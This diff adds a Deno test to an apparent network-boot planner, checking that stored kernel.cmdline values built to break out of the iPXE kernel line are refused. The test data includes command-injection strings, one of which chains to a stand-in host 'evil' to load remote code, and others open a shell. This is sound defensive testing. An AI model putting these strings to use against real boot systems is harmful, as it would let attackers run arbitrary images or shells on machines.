@@ -56,6 +56,27 @@ Deno.test("plan: a bootable node gets kernel and initramfs of one image and the 
   assert.match(plan.cmdline, / netroot\.mode=network .* quiet$/);
 });
 
+Deno.test("plan: a kernel.cmdline that would end the iPXE kernel line or run a command is refused", () => {
+  // Stored before the setting was checked for these (or written to the database directly).
+  for (
+    const extra of [
+      "quiet && chain http://evil/x",
+      "quiet || shell",
+      "quiet ; shell",
+      "quiet #x",
+      "x=${ip}",
+    ]
+  ) {
+    const plan = planBoot(input({}, { "kernel.cmdline": extra }));
+    assert.ok("refused" in plan, `${extra}: ${JSON.stringify(plan)}`);
+    assert.match(plan.refused, /^kernel\.cmdline /);
+  }
+  // The same characters inside a word are the kernel's (iPXE splits on blanks only).
+  const plan = planBoot(input({}, { "kernel.cmdline": "a=b;c d=e#f x&&y" }));
+  assert.ok(!("refused" in plan), JSON.stringify(plan));
+  assert.match(plan.cmdline, / a=b;c d=e#f x&&y$/);
+});
+
 Deno.test("plan: an aarch64 virtual node's console is the virt machine's UART, other models none", () => {
   const cmdline = (model: string) => {
     const i = input();
